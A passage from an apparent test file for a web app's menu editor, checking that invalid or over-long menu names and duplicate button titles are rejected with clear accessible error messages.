    assert.match(text, /id="text"[^>]*aria-invalid="true"/, name)
  }
  const wire = JSON.stringify({ type: 'text', text: { body: 'Hello' } })
  assert.match((await h.post('/menus/_import', { text: wire, name: '' }).expect(422)).text, /role="alert">What is pasted has no name of its own/)
  assert.match((await h.post('/menus/_import', { text: wire, name: '???' }).expect(422)).text, /role="alert">Give it a name of Latin letters/)
})

test('a name that cannot be kept is refused with its reason, and loses no letter unseen', async (t) => {
  const { post } = await host(t)
  const latin = /Give it a name of Latin letters/
  for (const [name, why] of [
    ['a'.repeat(65), /The name is 65 characters; at most 64\./],
    ['मेनू 1', latin],
    ['---', latin],
  ] as const) {
    assert.match((await post('/menus/_new', { name, type: 'text' }).expect(422)).text, why)
    assert.match((await post('/menus/_import', { name, text: JSON.stringify({ type: 'text', text: { body: 'Hello' } }) }).expect(422)).text, why)
  }
  await post('/menus/_new', { name: 'a'.repeat(64), type: 'text' }).expect(303)
})

test('two buttons with the same label are told of once', async (t) => {
  const h = await host(t)
  await h.post('/menus/_new', { name: 'twins', type: 'button' }).expect(303)

  await edit(h, 'twins', { body: 'Well?', 'buttons[0][title]': 'Yes', 'buttons[1][title]': 'Yes' }).then((answer) => assert.equal(answer.status, 303))
  const { text } = await h.get('/menus/twins').expect(200)

  assert.equal(text.match(/have the same title/g)?.length, 2, 'beside the field, and in the list of what keeps it back')
  assert.doesNotMatch(text, /look alike/)
})
